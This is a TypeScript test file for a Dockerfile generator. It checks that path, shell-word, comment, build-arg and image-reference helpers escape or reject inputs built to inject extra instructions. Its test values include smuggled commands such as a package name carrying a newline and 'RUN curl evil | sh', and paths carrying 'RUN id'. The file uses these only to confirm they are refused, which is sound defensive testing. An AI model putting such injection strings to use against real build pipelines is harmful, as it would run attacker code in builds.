import { DockerfileParser } from 'dockerfile-ast';
import { describe, expect, it } from 'vitest';
import { UserError } from '../../src/errors.js';
import { splitCommand } from '../../src/shell-words.js';
import {
  argLine,
  comment,
  copyLine,
  execForm,
  fromLine,
  imageRef,
  imageRefProblem,
  oneLine,
  repositoryName,
  shellWord,
} from '../../src/strategies/render/escape.js';

/** The instructions a real Dockerfile parser (the VS Code one) finds: keyword and raw arguments. */
function instructions(text: string): [string, string][] {
  return DockerfileParser.parse(text)
    .getInstructions()
    .map((i) => [i.getKeyword(), i.getArgumentsContent() ?? '']);
}

/** What Docker's word lexer makes of a JSON-form COPY word: `\x` is x. */
function unlex(word: string): string {
  return word.replace(/\\(.)/g, '$1');
}

function thrown(f: () => unknown): UserError {
  try {
    f();
  } catch (e) {
    if (e instanceof UserError) return e;
    throw e;
  }
  throw new Error('nothing was thrown');
}

const NASTY = [
  'a b',
  "it's",
  'q"x',
  `d$x \${HOME}`,
  'back\\slash',
  'br[1]',
  'st*r?',
  '#hash',
  '--from=x',
  '<<EOF',
  'a # <<EOF b',
  'ü é',
  'x\\',
];

describe('copyLine', () => {
  it('keeps plain paths readable', () => {
    expect(copyLine(['requirements.txt', 'req/dev.txt'], './')).toBe('COPY requirements.txt req/dev.txt ./');
    expect(copyLine(['/opt/venv'], '/opt/venv', ['--from=venv-builder'])).toBe(
      'COPY --from=venv-builder /opt/venv /opt/venv',
    );
  });

  it.each(NASTY)('%j stays one path, source and destination', (p) => {
    const line = copyLine([p], `${p}/`);
    const ins = instructions(`FROM a:1\n${line}\n`);
    expect(ins.map((i) => i[0])).toEqual(['FROM', 'COPY']);
    const words = JSON.parse(ins[1]![1]) as string[];
    // Sources are also globs: what the lexer leaves must match the path itself only.
    const glob = unlex(words[0]!).replace(/\[(.)\]/g, '$1');
    expect([glob, unlex(words[1]!)]).toEqual([p, `${p}/`]);
  });

  it('refuses a path with a line break', () => {
    expect(thrown(() => copyLine(['a\nRUN id'], './')).message).toMatch(/control character/);
  });
});

describe('shellWord and execForm', () => {
  it.each(NASTY)('%j is one shell word and one exec-form argument', (w) => {
    const run = `RUN pip install ${shellWord(w)}`;
    const ins = instructions(`FROM a:1\n${run}\nCMD ${execForm(['x', w])}\n`);
    expect(ins.map((i) => i[0])).toEqual(['FROM', 'RUN', 'CMD']);
    expect(splitCommand(ins[1]![1])).toEqual(['pip', 'install', w]);
    expect(JSON.parse(ins[2]![1])).toEqual(['x', w]);
  });

  it('a newline is refused in a shell word, escaped in exec form', () => {
    expect(thrown(() => shellWord('flask\nRUN curl evil | sh', 'the marker')).message).toMatch(
      /^the marker "flask\\nRUN curl evil \| sh" contains a line break/,
    );
    const cmd = `CMD ${execForm(['python', '-c', 'a\nb'])}`;
    expect(instructions(`FROM a:1\n${cmd}\n`).map((i) => i[0])).toEqual(['FROM', 'CMD']);
    expect(thrown(() => execForm(['a\0b'])).message).toMatch(/NUL/);
  });
});

describe('comment', () => {
  it('nothing in a comment starts a new line', () => {
    const lines = comment(['flask\nRUN id', 'a\r\nb', 'x\u2028y', '\x1b[31mred', '']);
    expect(lines).toEqual(['# flask\\nRUN id', '# a\\r\\nb', '# x\\u2028y', '# \\x1b[31mred', '#']);
    expect(instructions(`${lines.join('\n')}\nFROM a:1\n`).map((i) => i[0])).toEqual(['FROM']);
    expect(oneLine('plain')).toBe('plain');
  });
});

describe('image references (the distribution grammar)', () => {
  it.each([
    'python:3.12-slim',
    'scratch',
    'build-env',
    '127.0.0.1:5000/python:3.11',
    'localhost:5000/a/b_c/d__e/f-g:v1.0',
    'gcr.io/distroless/python3-debian12:nonroot',
    `python@sha256:${'ab'.repeat(32)}`,
    `registry.corp/python:3.12@sha256:${'0'.repeat(64)}`,
    '[::1]:5000/python:3.12',
    'Registry.Corp/python:3.12',
  ])('%s is one', (ref) => {
    expect(imageRefProblem(ref)).toBeUndefined();
    expect(fromLine(ref, 'x')).toBe(`FROM ${ref} AS x`);
  });

  it.each([
    ['Python:3.12', /upper-case/],
    ['python:3.12 AS x', /spaces/],
    ['python:3.12\nRUN id', /control/],
    ['python:-x', /not an image reference/],
    ['python:3.12@sha256:abc', /not an image reference/],
    ['-python', /not an image reference/],
    ['python::3', /not an image reference/],
    ['a$b', /not an image reference/],
    [`python:${'x'.repeat(129)}`, /not an image reference/],
    ['', /empty/],
  ])('%j is not: %s', (ref, why) => {
    expect(imageRefProblem(ref)).toMatch(why);
    expect(thrown(() => imageRef(ref)).hint).toMatch(/lower case/);
  });

  it('a stage name is checked too', () => {
    expect(thrown(() => fromLine('python:3.12', 'a b')).message).toMatch(/stage name/);
  });

  it('a tag made from any folder name is a valid repository', () => {
    for (const n of ['My App', "it's", '"quoted"', '--x--', '', 'ÜBER', 'a..b', 'x'.repeat(300)]) {
      const name = repositoryName(n);
      expect(imageRefProblem(name), `${n} → ${name}`).toBeUndefined();
    }
    expect(repositoryName('"My App"')).toBe('my-app');
    expect(repositoryName('')).toBe('app');
  });
});

describe('argLine', () => {
  it('declares, with a default escaped for the lexer', () => {
    expect(argLine('PIP_INDEX_URL')).toBe('ARG PIP_INDEX_URL');
    expect(argLine('PIP_INDEX_URL', 'http://127.0.0.1:8765/simple/')).toBe(
      'ARG PIP_INDEX_URL=http://127.0.0.1:8765/simple/',
    );
    expect(argLine('X', 'a$b "c"')).toBe('ARG X="a\\$b \\"c\\""');
    // A trailing space or backslash must not continue the line into the next instruction.
    for (const v of ['a ', 'a\\', 'a\\ ', ' '])
      expect(instructions(`${argLine('X', v)}\nFROM a:1\n`).map((i) => i[0])).toEqual(['ARG', 'FROM']);
  });
  it('refuses a bad name or a line break', () => {
    expect(thrown(() => argLine('1X')).message).toMatch(/build arg name/);
    expect(thrown(() => argLine('X', 'a\nRUN id')).message).toMatch(/control/);
  });
});

describe('messages stay short', () => {
  it('a huge value is clipped in the message', () => {
    const e = thrown(() => shellWord(`${'x'.repeat(40_000)}\n`));
    expect(e.message.length).toBeLessThan(300);
    expect(e.message).toMatch(/40001 characters/);
  });
});
